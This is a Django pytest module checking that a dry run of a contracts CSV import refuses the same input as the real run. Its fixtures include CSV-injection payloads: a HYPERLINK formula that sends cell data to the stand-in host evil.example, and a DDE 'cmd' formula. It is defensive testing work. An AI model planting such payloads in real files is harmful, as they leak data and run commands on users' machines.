"""A dry run of the contracts import refuses exactly what the real run refuses (issue 13).

The dry run makes the real run's writes and rolls them back, so even what only the database
refuses shows up in it; cells the import reads as formulas or NUL are refused by both.
"""

from __future__ import annotations

import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection

from contracts.models import ImportRun, Organization
from contracts.services.imports import service
from contracts.services.imports.existing import existing_load
from tests.contracts.import_csv import csv_text, import_rows, nothing_stored, row

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def both_runs(tmp_path, *rows: dict[str, str]) -> list[str]:
    """Run `import_contracts --dry-run`, then the real run; return each one's error output."""
    path = tmp_path / "contracts.csv"
    path.write_text(csv_text(*rows), encoding="utf-8")
    outputs = []
    for extra in (["--dry-run"], []):
        err = io.StringIO()
        with pytest.raises(CommandError, match="refused"):
            call_command("import_contracts", str(path), *extra, stdout=io.StringIO(), stderr=err)
        outputs.append(err.getvalue())
    return outputs


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        pytest.param(
            {"site_name": "Acme\x00Chicago"},
            "line 2, column site_name: this value holds a NUL character",
            id="nul",
        ),
        pytest.param(
            {"organisation_name": HYPERLINK, "contract_holder": HYPERLINK},
            "line 2, column organisation_name: “=HYPERLINK(",
            id="hyperlink-formula",
        ),
        pytest.param(
            {"site_address": "@SUM(A1:A9)"},
            "line 2, column site_address: “@SUM(A1:A9)” is a spreadsheet formula",
            id="at-formula",
        ),
        pytest.param(
            {"site_name": "-2+3+cmd|' /C calc'!A0"},
            "line 2, column site_name: “-2+3+cmd|' /C calc'!A0” is a spreadsheet formula",
            id="dde-formula",
        ),
    ],
)
def test_a_cell_the_real_run_refuses_is_refused_by_the_dry_run_too(tmp_path, values, expected):
    dry, real = both_runs(tmp_path, row(**values))

    assert expected in dry
    assert dry == real
    assert nothing_stored()
    assert [run.dry_run for run in ImportRun.objects.order_by("pk")] == [True, False]


@pytest.mark.parametrize("address", ["+33 1 23 45 67 89", "+1 (555) 010-0199", "-"])
def test_phone_numbers_and_plain_text_are_not_formulas(address):
    result = import_rows(row(site_address=address, site_name="Acme = Chicago"))

    assert result.ok, result.errors


def test_a_refusal_only_the_database_makes_is_reported_by_the_dry_run_too(monkeypatch):
    # A concurrent writer creates the organisation after the checks read the database:
    # only the INSERT finds the duplicate name.
    def load_missing_the_new_name(specs):
        found = existing_load(specs)
        Organization.objects.create(name="Acme Tools", kind="direct_customer", country="US")
        return found

    monkeypatch.setattr(service, "existing_load", load_missing_the_new_name)

    dry = import_rows(row(), dry_run=True)
    Organization.objects.all().delete()
    real = import_rows(row())

    assert not dry.ok
    assert [str(error) for error in dry.errors] == [str(error) for error in real.errors]
    assert "the database refused the import" in str(dry.errors[0])


@pytest.mark.postgres
def test_a_value_too_long_for_its_column_is_refused_by_both_runs_on_postgresql(monkeypatch):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: set DATABASE_URL=postgres://...")
    # Without the row check's limit, only PostgreSQL's varchar(200) sees the long name.
    monkeypatch.setitem(service.row_parse.__globals__["MAX_LENGTHS"], "site_name", 10_000)

    dry = import_rows(row(site_name="x" * 201), dry_run=True)
    real = import_rows(row(site_name="x" * 201))

    assert not dry.ok
    assert [str(error) for error in dry.errors] == [str(error) for error in real.errors]
    assert "the database refused the import" in str(dry.errors[0])
    assert nothing_stored()
